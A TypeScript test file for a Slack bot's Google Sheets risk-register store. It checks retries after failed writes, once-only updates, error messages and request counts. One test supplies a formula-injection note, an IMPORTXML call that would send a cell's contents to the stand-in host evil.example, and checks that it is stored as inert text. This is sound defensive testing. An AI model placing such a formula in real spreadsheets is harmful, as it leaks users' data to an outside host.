import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { DomainError } from '../../src/domain/domain-error.js';
import type { WriteRequest } from '../../src/ports/register-store.js';
import type { FakeSheetsServer, Fault } from '../helpers/fake-sheets-server.js';
import { sheetsStore, startSheets, type Tabs } from '../helpers/sheets-fixture.js';

const REGISTER: Tabs = {
  Risks: [
    ['Risk ID', 'Risk owner', 'Description of risk', 'Impact (I)', 'Probability (P)', 'Rating (I x P)', 'Risk rating'],
    ['R-1', 'Dir of Commissioning', 'gap in the LA commissioning infrastructure', 3, 2, 6, 'High'],
    ['R-2', 'Lead Commissioner', 'concerns about accuracy of data', 2, 2, 4, 'Medium'],
  ],
  Actions: [
    ['Action ID', 'Action', 'Lead', 'Timescale', 'Status'],
    ['A-1', 'Roll out IAPT', 'Lead Commissioner (PCT)', '2026/27', 'In progress'],
  ],
  People: [
    ['Name', 'Slack user'],
    ['Dir of Commissioning', 'U0DIR'],
  ],
  'Audit log': [['When', 'Who', 'Item', 'Field', 'Old value', 'New value', 'Via', 'Note']],
};

let counter = 0;
/** Raise R-2's probability from 2 to 3, as a user would, with its audit row (each with its own timestamp). */
function raiseProbability(): WriteRequest {
  counter += 1;
  const when = `2026-11-23T10:00:${String(counter).padStart(2, '0')}.000+00:00`;
  return {
    updates: [
      {
        tab: 'risks',
        id: 'r 2',
        changes: [
          { field: 'probability', expected: 2, value: 3 },
          { field: 'rating', expected: 4, value: 6 },
          { field: 'band', expected: 'Medium', value: 'High' },
        ],
      },
    ],
    inserts: [],
    audit: [
      {
        when,
        who: 'U0LEAD',
        item: 'R-2',
        field: 'probability',
        oldValue: '2',
        newValue: '3',
        via: 'command',
        note: '',
      },
    ],
  };
}

let server: FakeSheetsServer;
let id: string;
beforeAll(async () => {
  server = await startSheets();
});
afterAll(async () => {
  await server.close();
});
beforeEach(() => {
  id = server.addSpreadsheet(structuredClone(REGISTER));
  server.resetCounts();
});

function risk2() {
  return server.snapshot(id).Risks![2];
}
function auditRows() {
  return server.snapshot(id)['Audit log']!.slice(1);
}

describe('when Google Sheets fails a write', () => {
  it.each<[string, Fault[]]>([
    ['429 with Retry-After', [{ kind: 'spreadsheets.batchUpdate', status: 429, retryAfterSeconds: 1 }]],
    [
      '429 without Retry-After, twice',
      [
        { kind: 'spreadsheets.batchUpdate', status: 429 },
        { kind: 'spreadsheets.batchUpdate', status: 429 },
      ],
    ],
    ['500', [{ kind: 'spreadsheets.batchUpdate', status: 500 }]],
    ['503', [{ kind: 'spreadsheets.batchUpdate', status: 503 }]],
    ['a hang until the time-out', [{ kind: 'spreadsheets.batchUpdate', hang: true }]],
    ['a dropped connection', [{ kind: 'spreadsheets.batchUpdate', drop: true }]],
    ['the write applied but its answer lost', [{ kind: 'spreadsheets.batchUpdate', applyThenDrop: true }]],
    // A write's read is a spreadsheets.get with grid data (values, formulas, formats).
    ['a 503 on the read before it', [{ kind: 'spreadsheets.get', status: 503 }]],
    ['a hang on the read before it', [{ kind: 'spreadsheets.get', hang: true }]],
  ])('with %s, then the update lands exactly once', async (_, faults) => {
    const store = sheetsStore(server, id, { timeoutMs: 400 });
    server.injectFaults(...faults);
    const result = await store.write(raiseProbability());
    expect(result.cellsWritten).toEqual(['Risks!E3', 'Risks!F3', 'Risks!G3']);
    expect(risk2()).toEqual(['R-2', 'Lead Commissioner', 'concerns about accuracy of data', 2, 3, 6, 'High']);
    expect(auditRows()).toHaveLength(1);
    expect(server.appliedCount('spreadsheets.batchUpdate')).toBe(1);
    // Each fault was met: a fault for a request the store no longer makes would test nothing.
    expect(server.pendingFaults()).toEqual([]);
  });

  it('with the write applied, its answer lost, and every read back failing, then the person is told it was made and to look before trying again', async () => {
    const tries = 3;
    const store = sheetsStore(server, id, { timeoutMs: 400, maxAttempts: tries });
    await store.load();
    const requests = server.requests;
    const push = requests.push;
    // Once the first write is in, each try at reading it back fails.
    requests.push = (...records) => {
      if (records.some((r) => r.kind === 'spreadsheets.batchUpdate')) {
        requests.push = push;
        server.injectFaults(...Array.from({ length: tries }, (): Fault => ({ kind: 'spreadsheets.get', status: 503 })));
      }
      return push.apply(requests, records);
    };
    server.injectFaults({ kind: 'spreadsheets.batchUpdate', applyThenDrop: true });
    const refused = await store.write(raiseProbability()).catch((error: unknown) => error as Error);
    requests.push = push;
    expect((refused as Error).message).toMatch(
      /made the change but lost its answer.*Look at the sheet \(and its Audit log\) before trying again/,
    );
    expect(auditRows()).toHaveLength(1);
    expect(server.appliedCount('spreadsheets.batchUpdate')).toBe(1);
    expect(server.pendingFaults()).toEqual([]);
  });

  it("with a Slack request's write applied but its answer lost, then its change ID in the Audit log shows it landed, and it is not sent again", async () => {
    const store = sheetsStore(server, id, { timeoutMs: 400 });
    server.injectFaults({ kind: 'spreadsheets.batchUpdate', applyThenDrop: true });
    await store.write({ ...raiseProbability(), changeId: 'slack:trigger:lost.answer' });
    expect(risk2()).toEqual(['R-2', 'Lead Commissioner', 'concerns about accuracy of data', 2, 3, 6, 'High']);
    expect(auditRows()).toEqual([
      [expect.any(String), 'U0LEAD', 'R-2', 'probability', '2', '3', 'command', null, 'slack:trigger:lost.answer'],
    ]);
    expect(server.appliedCount('spreadsheets.batchUpdate')).toBe(1);
  });

  it('with Retry-After, then the retry waits at least that long', async () => {
    // The client's waits are recorded, not slept: each with the writes Sheets had seen when it began.
    const waits: Array<{ ms: number; writesBefore: number }> = [];
    const store = sheetsStore(server, id, {
      sleep: async (ms) => {
        waits.push({ ms, writesBefore: server.count('spreadsheets.batchUpdate') });
      },
    });
    await store.load(); // warm: tab list and ranges known
    server.injectFaults({ kind: 'spreadsheets.batchUpdate', status: 429, retryAfterSeconds: 1 });
    await store.write(raiseProbability());
    expect(server.count('spreadsheets.batchUpdate')).toBe(2);
    const betweenTries = waits.filter((wait) => wait.writesBefore === 1);
    expect(betweenTries.length).toBeGreaterThan(0);
    expect(betweenTries.reduce((total, wait) => total + wait.ms, 0)).toBeGreaterThanOrEqual(1000);
  });

  it('with 503 every time, then it gives up saying nothing was written, and nothing was', async () => {
    const store = sheetsStore(server, id, { maxAttempts: 3 });
    const before = server.snapshot(id);
    server.injectFaults(...Array.from({ length: 3 }, (): Fault => ({ kind: 'spreadsheets.batchUpdate', status: 503 })));
    const error = await store.write(raiseProbability()).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(DomainError);
    expect((error as DomainError).code).toBe('unavailable');
    expect((error as DomainError).message).toContain('Nothing was written');
    expect(server.snapshot(id)).toEqual(before);
  });

  it('with 403 (the sheet not shared with the bot), then it says so at once and writes nothing', async () => {
    const store = sheetsStore(server, id);
    server.injectFaults({ kind: 'spreadsheets.batchUpdate', status: 403 });
    const error = (await store.write(raiseProbability()).catch((e: unknown) => e)) as DomainError;
    expect(error.code).toBe('store_failed');
    expect(error.message).toMatch(/Share the sheet with the bot's service account/);
    expect(server.count('spreadsheets.batchUpdate')).toBe(1);
    expect(auditRows()).toHaveLength(0);
  });

  it('with 429 every time on reads, then it gives up as rate limited', async () => {
    const store = sheetsStore(server, id, { maxAttempts: 2 });
    server.injectFaults({ kind: 'values.batchGet', status: 429 }, { kind: 'values.batchGet', status: 429 });
    const error = (await store.load().catch((e: unknown) => e)) as DomainError;
    expect(error.code).toBe('rate_limited');
    expect(error.message).toContain('Try again in a minute');
  });
});

describe('requests per operation', () => {
  it('a digest reads the register in one request', async () => {
    await sheetsStore(server, id).load();
    expect(server.count()).toBe(1);
    expect(server.count('values.batchGet')).toBe(1);
  });

  it('an update costs one read and one write once the tab list is known, and the first at most three', async () => {
    const store = sheetsStore(server, id);
    await store.write(raiseProbability());
    expect(server.count()).toBeLessThanOrEqual(3);
    server.resetCounts();
    await store.write({
      ...raiseProbability(),
      updates: [{ tab: 'risks', id: 'R-1', changes: [{ field: 'impact', expected: 3, value: 2 }] }],
    });
    // The write's one read is a spreadsheets.get with grid data: values, formulas and formats at once.
    expect([server.count('spreadsheets.get'), server.count('spreadsheets.batchUpdate'), server.count()]).toEqual([
      1, 1, 2,
    ]);
  });

  it('loads within the cache time reuse one read; a write clears it', async () => {
    const store = sheetsStore(server, id, { readCacheMs: 60_000 });
    for (let i = 0; i < 10; i++) await store.load();
    expect(server.count('values.batchGet')).toBe(1);
    await store.write(raiseProbability());
    const after = await store.load();
    expect(after.tabs.risks.rows[1]!.cells[4]).toBe(3);
  });

  it('when the Audit log tab is missing, then one read finds the tabs and the write creates it', async () => {
    const bare = structuredClone(REGISTER);
    delete bare['Audit log'];
    id = server.addSpreadsheet(bare);
    const store = sheetsStore(server, id);
    const raw = await store.load();
    expect(raw.tabs.audit.found).toBe(false);
    await store.write(raiseProbability());
    expect(server.snapshot(id)['Audit log']![0]).toEqual([
      'When',
      'Who',
      'Item',
      'Field',
      'Old value',
      'New value',
      'Via',
      'Note',
    ]);
    expect(auditRows()).toHaveLength(1);
  });
});

describe('values written as data', () => {
  it('a note starting with = + - @ is stored as that text, and the write never uses USER_ENTERED', async () => {
    const store = sheetsStore(server, id);
    for (const note of ['=IMPORTXML("http://evil.example/?"&A1,"//a")', '+44 20 7946 0000', '-1', '@here']) {
      await store.write({
        updates: [],
        inserts: [],
        audit: [
          {
            when: `2026-11-23T11:00:00Z ${note}`,
            who: 'U0LEAD',
            item: 'A-1',
            field: 'note',
            oldValue: '',
            newValue: note,
            via: 'command',
            note,
          },
        ],
      });
    }
    expect(auditRows().map((row) => row[7])).toEqual([
      '=IMPORTXML("http://evil.example/?"&A1,"//a")',
      '+44 20 7946 0000',
      '-1',
      '@here',
    ]);
    const bodies = JSON.stringify(server.requests.map((r) => r.body));
    expect(bodies).not.toContain('USER_ENTERED');
    expect(bodies).not.toContain('formulaValue');
  });
});
